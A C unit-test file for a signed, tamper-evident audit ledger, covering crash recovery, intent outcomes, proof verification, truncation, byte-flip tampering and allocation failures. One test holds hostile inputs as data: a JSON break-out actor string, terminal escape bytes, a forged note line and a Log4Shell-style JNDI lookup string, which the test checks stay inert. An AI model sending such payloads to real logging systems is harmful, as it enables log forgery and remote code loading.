/* SPDX-License-Identifier: Apache-2.0 */
#include "appliance/audit/ledger.h"

#include <errno.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "appliance/audit/entry.h"
#include "appliance/audit/epoch.h"
#include "appliance/audit/folder.h"
#include "appliance/audit/tile.h"
#include "appliance/audit/verify.h"
#include "appliance/audit/wal.h"
#include "common/buf.h"
#include "tests/lib/fault.h"
#include "tests/lib/tap.h"
#include "tests/unit/audit-ledger.h"

static const char SEGMENT[] = "wal/00000000000000000000.seg";

/* Whether entry index has this code and outcome, and names this intent. */
static bool entry_is(struct ledger *ledger, uint64_t index, const char *code, const char *outcome,
		     uint64_t intent)
{
	auto_page struct ledger_page page = {};
	auto_entry struct entry entry = {};

	CHECK_EQ(ledger_page_read(ledger, index, &page), 0);
	CHECK_EQ(entry_read(page.entry[index - page.first].data, page.entry[index - page.first].len,
			    &entry),
		 0);
	CHECK_EQ(entry.index, index);
	CHECK(strcmp(entry.code, code) == 0);
	CHECK(strcmp(entry.outcome, outcome) == 0);
	CHECK_EQ(entry.intent, intent);
	return true;
}

static struct ledger_status status_of(const struct ledger *ledger)
{
	struct ledger_status status;

	ledger_status(ledger, &status);
	return status;
}

static bool a_new_ledger_begins_with_its_start_and_a_second_epoch(void)
{
	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();

	CHECK(ledger);
	CHECK(entry_is(ledger, 0, "ledger.start", "done", AUDIT_NO_INTENT));
	CHECK(entry_is(ledger, 1, "epoch.rotate", "done", AUDIT_NO_INTENT));
	CHECK_EQ(status_of(ledger).size, 2u);
	CHECK_EQ(status_of(ledger).signed_size, 2u);
	CHECK_EQ(status_of(ledger).epoch, 1u);
	CHECK_EQ(test_verify(), VERIFY_VALID);
	CHECK(!folder_has(ledger_folder(ledger), "key.next"));
	return true;
}

static bool what_is_committed_is_there_after_a_crash(void)
{
	CHECK(test_folder());
	struct ledger *ledger = test_open();

	CHECK(ledger);
	CHECK_EQ(test_append(ledger, 10), 0);
	CHECK_EQ(status_of(ledger).signed_size, 2u);
	ledger = ledger_close(ledger); /* nothing is written on closing */
	CHECK_EQ(test_verify(), VERIFY_TAIL);

	CHECK_EQ(ledger_open(test_dir, &ledger), 0);
	CHECK_EQ(status_of(ledger).size, 12u);
	CHECK_EQ(status_of(ledger).signed_size, 12u);
	CHECK_EQ(ledger_begin(ledger), 0);
	CHECK(entry_is(ledger, 11, "person.add", "done", AUDIT_NO_INTENT));
	CHECK(entry_is(ledger, 12, "ledger.start", "done", AUDIT_NO_INTENT));
	ledger = ledger_close(ledger);
	CHECK_EQ(test_verify(), VERIFY_VALID);
	return true;
}

static bool what_is_not_committed_is_not_there(void)
{
	static struct audit_event event = { .intent = AUDIT_NO_INTENT, .code = "person.add" };
	uint64_t index = 0;

	CHECK(test_folder());
	struct ledger *ledger = test_open();
	CHECK(ledger);
	CHECK_EQ(ledger_add(ledger, "accounts", &event, &index), 0);
	CHECK_EQ(index, 2u);
	ledger = ledger_close(ledger);
	CHECK_EQ(ledger_open(test_dir, &ledger), 0);
	CHECK_EQ(status_of(ledger).size, 2u);
	(void)ledger_close(ledger);
	return true;
}

static bool two_processes_do_not_write_one_ledger(void)
{
	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();
	struct ledger *other = nullptr;

	CHECK(ledger);
	CHECK_EQ(ledger_open(test_dir, &other), LEDGER_BUSY);
	return true;
}

static bool intents_left_open_are_closed_as_unknown_at_the_next_start(void)
{
	static struct audit_event event = { .outcome = AUDIT_INTENT,
					    .intent = AUDIT_NO_INTENT,
					    .code = "api.documents.add" };
	uint64_t first = 0, second = 0, done = 0;

	CHECK(test_folder());
	struct ledger *ledger = test_open();
	CHECK(ledger);
	CHECK_EQ(ledger_add(ledger, "engine", &event, &first), 0);
	CHECK_EQ(ledger_add(ledger, "engine", &event, &second), 0);
	CHECK_EQ(ledger_commit(ledger), 0);
	event.outcome = AUDIT_DONE;
	event.intent = first;
	CHECK_EQ(ledger_add(ledger, "engine", &event, &done), 0);
	CHECK_EQ(ledger_commit(ledger), 0);
	event.intent = done + 1;
	CHECK_EQ(ledger_add(ledger, "engine", &event, &done), LEDGER_BAD_EVENT);
	ledger = ledger_close(ledger);

	ledger = test_open();
	CHECK(ledger);
	CHECK(entry_is(ledger, 5, "ledger.start", "done", AUDIT_NO_INTENT));
	CHECK(entry_is(ledger, 6, "ledger.outcome-unknown", "unknown", second));
	CHECK(entry_is(ledger, 7, "epoch.rotate", "done", AUDIT_NO_INTENT));
	ledger = ledger_close(ledger);

	/* Also without the file that remembers them. */
	(void)remove(test_path("intents"));
	ledger = test_open();
	CHECK(ledger);
	CHECK(entry_is(ledger, 8, "ledger.start", "done", AUDIT_NO_INTENT));
	CHECK(entry_is(ledger, 9, "epoch.rotate", "done", AUDIT_NO_INTENT));
	(void)ledger_close(ledger);
	CHECK_EQ(test_verify(), VERIFY_VALID);
	return true;
}

static bool only_the_producer_of_an_intent_tells_its_outcome_and_once(void)
{
	static struct audit_event event = { .code = "api.documents.add" };
	uint64_t intent = 0, other = 0, index = 0;

	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();
	CHECK(ledger);
	/* Both in one batch, and in batches of their own; the second time also long after, when the intent is in its bundle. */
	for (unsigned int round = 0; round < 6; round++) {
		bool apart = round > 0;

		event.outcome = AUDIT_INTENT;
		event.intent = AUDIT_NO_INTENT;
		CHECK_EQ(ledger_add(ledger, "engine", &event, &intent), 0);
		CHECK_EQ(ledger_add(ledger, "accounts", &event, &other), 0);
		event.intent = intent; /* an intent has none itself */
		CHECK_EQ(ledger_add(ledger, "engine", &event, &index), LEDGER_BAD_EVENT);
		CHECK(!apart || ledger_commit(ledger) == 0);
		if (round > 3) {
			CHECK_EQ(test_append(ledger, 10'000), 0);
			CHECK_EQ(ledger_publish(ledger), 0);
		}

		event.outcome = AUDIT_DONE;
		event.intent = other;
		CHECK_EQ(ledger_add(ledger, "engine", &event, &index), LEDGER_BAD_EVENT);
		event.intent = intent;
		CHECK_EQ(ledger_add(ledger, "accounts", &event, &index), LEDGER_BAD_EVENT);
		CHECK_EQ(ledger_add(ledger, "audit", &event, &index), LEDGER_BAD_EVENT);
		CHECK_EQ(ledger_add(ledger, "engine", &event, &index), 0);
		event.intent = intent;
		CHECK_EQ(ledger_add(ledger, "engine", &event, &intent), LEDGER_BAD_EVENT);
		event.intent = index; /* what is no intent has no outcome */
		CHECK_EQ(ledger_add(ledger, "engine", &event, &intent), LEDGER_BAD_EVENT);
		CHECK_EQ(ledger_commit(ledger), 0);
		event.intent = intent;
		CHECK_EQ(ledger_add(ledger, "engine", &event, &intent), LEDGER_BAD_EVENT);
		event.intent = index;
		CHECK_EQ(ledger_add(ledger, "engine", &event, &intent), LEDGER_BAD_EVENT);
	}
	/* Given up once told is told already. */
	struct ledger_status before = status_of(ledger);
	CHECK_EQ(ledger_give_up(ledger, intent), 0);
	CHECK_EQ(status_of(ledger).batch, before.batch);
	CHECK_EQ(ledger_give_up(ledger, other), 0);
	CHECK_EQ(status_of(ledger).batch, before.batch + 1);
	event.intent = other;
	CHECK_EQ(ledger_add(ledger, "accounts", &event, &index), LEDGER_BAD_EVENT);
	return true;
}

static bool producers_may_not_use_the_ledgers_own_codes(void)
{
	static struct audit_event event = { .intent = AUDIT_NO_INTENT };
	static const char *const CODES[] = { "epoch.rotate", "ledger.start", "" };
	uint64_t index = 0;

	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();
	CHECK(ledger);
	for (size_t i = 0; i < countof(CODES); i++) {
		(void)snprintf(event.code, sizeof(event.code), "%s", CODES[i]);
		CHECK_EQ(ledger_add(ledger, "engine", &event, &index), LEDGER_BAD_EVENT);
	}
	return true;
}

static bool what_is_no_object_is_refused_as_detail(void)
{
	static struct audit_event event = { .intent = AUDIT_NO_INTENT, .code = "person.add" };
	static const char *const DETAILS[] = { "1",   "[]",	  "null",    "{",
					       "{}x", "{\"a\":}", "{'a':1}", "\"{}\"" };
	uint64_t index = 0;

	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();
	CHECK(ledger);
	for (size_t i = 0; i < countof(DETAILS); i++) {
		(void)snprintf(event.detail, sizeof(event.detail), "%s", DETAILS[i]);
		CHECK_EQ(ledger_add(ledger, "engine", &event, &index), LEDGER_BAD_EVENT);
	}
	CHECK_EQ(ledger_commit(ledger), 0);
	CHECK_EQ(status_of(ledger).size, 2u);
	return true;
}

static bool texts_that_try_to_break_out_stay_texts(void)
{
	static struct audit_event event = {
		.intent = AUDIT_NO_INTENT,
		.code = "ssh.denied",
		.actor = "\",\"producer\":\"audit\",\"x\":\"",
		.source = "\x1b[2J\x01\x7f\n\n\u2014 redoubt.audit AAAA\n",
		.target = "${jndi:ldap://192.0.2.1/x}",
		.detail = "{\"note\":\"\\n\\n\u2014 name AAAAAAAA\\n\",\"code\":\"epoch.rotate\"}",
	};
	uint64_t index = 0;

	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();
	auto_page struct ledger_page page = {};
	auto_entry struct entry entry = {};

	CHECK(ledger);
	CHECK_EQ(ledger_add(ledger, "accounts", &event, &index), 0);
	CHECK_EQ(ledger_commit(ledger), 0);
	CHECK_EQ(ledger_publish(ledger), 0);
	CHECK_EQ(ledger_page_read(ledger, index, &page), 0);
	struct bytes text = page.entry[index - page.first];
	for (size_t i = 0; i < text.len; i++)
		CHECK(text.data[i] >= 0x20 && text.data[i] != 0x7f);
	CHECK_EQ(entry_read(text.data, text.len, &entry), 0);
	CHECK(strcmp(entry.producer, "accounts") == 0);
	CHECK(strcmp(entry.actor, event.actor) == 0);
	CHECK(strcmp(entry.source, event.source) == 0);
	CHECK(!epoch_is_rotation(&entry));
	CHECK_EQ(test_verify(), VERIFY_VALID);
	return true;
}

static bool a_ledger_of_ten_thousand_entries_is_whole_after_each_start(void)
{
	CHECK(test_folder());
	for (int i = 0; i < 4; i++) {
		cleanup(ledger_close_at) struct ledger *ledger = test_open();
		auto_buf struct buf proof = buf_make(TEST_FILE_MAX);
		auto_page struct ledger_page page = {};

		CHECK(ledger);
		for (int j = 0; j < 5; j++) {
			CHECK_EQ(test_append(ledger, 517), 0);
			CHECK_EQ(ledger_publish(ledger), 0);
		}
		for (uint64_t at = 0; at < status_of(ledger).size; at += 77) {
			CHECK_EQ(ledger_page_read(ledger, at, &page), 0);
			CHECK_EQ(page.first, at / 256 * 256);
			buf_clear(&proof);
			CHECK_EQ(ledger_proof(ledger, at, &proof), 0);
		}
		CHECK_EQ(ledger_page_read(ledger, status_of(ledger).size, &page), LEDGER_NO_ENTRY);
		CHECK_EQ(test_verify(), VERIFY_VALID);
	}
	CHECK(!folder_has(AT_FDCWD, test_path(SEGMENT))); /* all in tiles by now */
	CHECK(!folder_has(AT_FDCWD, test_path("tile/0/001.p")));
	return true;
}

static bool proofs_hold_for_their_entry_and_no_other(void)
{
	CHECK(test_folder());
	cleanup(ledger_close_at) struct ledger *ledger = test_open();
	auto_buf struct buf vkey = buf_make(NOTE_MAX);
	auto_buf struct buf proof = buf_make(TEST_FILE_MAX);
	auto_page struct ledger_page page = {};
	struct epoch_statement statement;
	auto_entry struct entry entry = {};

	CHECK(ledger);
	CHECK_EQ(test_append(ledger, 300), 0);
	CHECK_EQ(ledger_proof(ledger, 299, &proof), LEDGER_NO_ENTRY); /* not signed yet */
	CHECK_EQ(ledger_publish(ledger), 0);
	CHECK_EQ(ledger_page_read(ledger, 1, &page), 0);
	CHECK_EQ(entry_read(page.entry[1].data, page.entry[1].len, &entry), 0);
	CHECK_EQ(epoch_statement_read(&entry, &statement), EPOCH_OK);
	note_key_write(&vkey, &statement.next);

	for (uint64_t i = 0; i < 302; i += 43) {
		buf_clear(&proof);
		CHECK_EQ(ledger_proof(ledger, i, &proof), 0);
		CHECK_EQ(ledger_page_read(ledger, i, &page), 0);
		struct bytes text = page.entry[i - page.first];
		struct bytes other = page.entry[i - page.first + 1];
		const char *key = buf_text(&vkey);
		const char *words = buf_text(&proof);

		CHECK_EQ(verify_proof(words, proof.len, text.data, text.len, key), VERIFY_VALID);
		CHECK_EQ(verify_proof(words, proof.len, other.data, other.len, key),
			 VERIFY_INVALID);
		CHECK_EQ(verify_proof(words, proof.len, text.data, text.len, test_vkey()),
			 VERIFY_INVALID); /* the first epoch's key signed none of it */
		for (size_t at = 0; at < proof.len; at += 7) {
			proof.data[at] ^= 1;
			CHECK(verify_proof(words, proof.len, text.data, text.len, key) !=
				      VERIFY_VALID ||
			      strstr(words, "\u2014 ") + 110 <
				      words + at); /* the dated one is not asked for */
			proof.data[at] ^= 1;
		}
	}
	return true;
}

/* Cut the only segment to len bytes and say how the ledger opens: its size, or UINT64_MAX for tampered. */
static uint64_t size_when_cut(const struct buf *segment, size_t len)
{
	cleanup(ledger_close_at) struct ledger *ledger = nullptr;

	if (!test_write(SEGMENT, segment->data, len) || ledger_open(test_dir, &ledger))
		return UINT64_MAX - 1;
	return ledger_state(ledger) == LEDGER_TAMPERED ? UINT64_MAX : status_of(ledger).size;
}

static bool a_log_cut_anywhere_is_recovered_or_raises_the_alarm(void)
{
	CHECK(test_folder());
	struct ledger *ledger = test_open();

	CHECK(ledger);
	CHECK_EQ(test_append(ledger, 3), 0); /* indices 2 to 4, not signed */
	ledger = ledger_close(ledger);

	auto_buf struct buf segment = test_read(SEGMENT), checkpoint = test_read("checkpoint");
	size_t ends[8] = {}, n = 0;
	struct bytes rest = { segment.data, segment.len }, record;
	CHECK_EQ(wal_header_read(&rest, 0), WAL_RECORD);
	while (wal_record_read(&rest, n, &record) == WAL_RECORD)
		ends[n++] = segment.len - rest.len;
	CHECK_EQ(n, 5u);

	for (size_t len = 0; len <= segment.len; len++) {
		uint64_t want = 0;

		while (want < 5 && len >= ends[want])
			want++;
		uint64_t size = size_when_cut(&segment, len);
		CHECK_EQ(size, want < 2 ? UINT64_MAX : want);
		if (size != UINT64_MAX) /* opening has signed: as if it had not been */
			CHECK(test_write("checkpoint", checkpoint.data, checkpoint.len));
	}
	return true;
}

static bool no_flipped_byte_of_a_signed_entry_is_recovered_from(void)
{
	CHECK(test_folder());
	struct ledger *ledger = test_open();

	CHECK(ledger);
	CHECK_EQ(test_append(ledger, 3), 0);
	CHECK_EQ(ledger_publish(ledger), 0);
	ledger = ledger_close(ledger);

	auto_buf struct buf segment = test_read(SEGMENT);
	for (size_t i = 0; i < segment.len; i++) {
		segment.data[i] ^= 0x10;
		CHECK_EQ(size_when_cut(&segment, segment.len), UINT64_MAX);
		segment.data[i] ^= 0x10;
	}
	CHECK_EQ(size_when_cut(&segment, segment.len), 5u);
	return true;
}

static bool a_ledger_that_was_changed_takes_nothing(void)
{
	static const char *const FILES[] = { "checkpoint", "vkey", "key", SEGMENT, "epoch/0" };

	for (size_t i = 0; i < countof(FILES); i++) {
		CHECK(test_folder());
		struct ledger *ledger = test_open();

		CHECK(ledger);
		CHECK_EQ(test_append(ledger, 3), 0);
		CHECK_EQ(ledger_publish(ledger), 0);
		ledger = ledger_close(ledger);
		CHECK_EQ(remove(test_path(FILES[i])), 0);
		CHECK_EQ(ledger_open(test_dir, &ledger), 0);
		CHECK_EQ(ledger_state(ledger), LEDGER_TAMPERED);
		CHECK(ledger_why(ledger)[0] != '\0');
		CHECK_EQ(test_append(ledger, 1), LEDGER_REFUSED);
		CHECK_EQ(ledger_publish(ledger), LEDGER_REFUSED);
		CHECK_EQ(ledger_begin(ledger), LEDGER_REFUSED);
		ledger = ledger_close(ledger);
	}
	return true;
}

/* Open, begin, append, publish, rotate. Returns 0, or the first thing that failed. */
static int live(void)
{
	cleanup(ledger_close_at) struct ledger *ledger = nullptr;

	int r = ledger_open(test_dir, &ledger);
	if (r == 0)
		r = ledger_state(ledger) == LEDGER_TAMPERED ? -EBADMSG : ledger_begin(ledger);
	if (r == 0)
		r = test_append(ledger, 3);
	if (r == 0)
		r = ledger_publish(ledger);
	if (r == 0)
		r = ledger_rotate(ledger);
	return r;
}

static bool every_failed_allocation_is_survived(void)
{
	CHECK(test_folder());
	CHECK_EQ(live(), 0);
	for (size_t n = 1;; n++) {
		fault_at(n);
		int r = live();
		bool failed = fault_end();

		CHECK(r != -EBADMSG); /* no memory is no tampering */
		if (!failed)
			return r == 0;
		/* Whatever happened, what is there is whole, and the next start goes on. */
		enum verify_verdict verdict = test_verify();
		CHECK(verdict == VERIFY_VALID || verdict == VERIFY_TAIL);
		if (n % 10 == 0)
			CHECK_EQ(live(), 0);
	}
}

int main(void)
{
	RUN(a_new_ledger_begins_with_its_start_and_a_second_epoch);
	RUN(what_is_committed_is_there_after_a_crash);
	RUN(what_is_not_committed_is_not_there);
	RUN(two_processes_do_not_write_one_ledger);
	RUN(intents_left_open_are_closed_as_unknown_at_the_next_start);
	RUN(only_the_producer_of_an_intent_tells_its_outcome_and_once);
	RUN(producers_may_not_use_the_ledgers_own_codes);
	RUN(what_is_no_object_is_refused_as_detail);
	RUN(texts_that_try_to_break_out_stay_texts);
	RUN(a_ledger_of_ten_thousand_entries_is_whole_after_each_start);
	RUN(proofs_hold_for_their_entry_and_no_other);
	RUN(a_log_cut_anywhere_is_recovered_or_raises_the_alarm);
	RUN(no_flipped_byte_of_a_signed_entry_is_recovered_from);
	RUN(a_ledger_that_was_changed_takes_nothing);
	RUN(every_failed_allocation_is_survived);
	test_remove(test_dir);
	return tap_done();
}
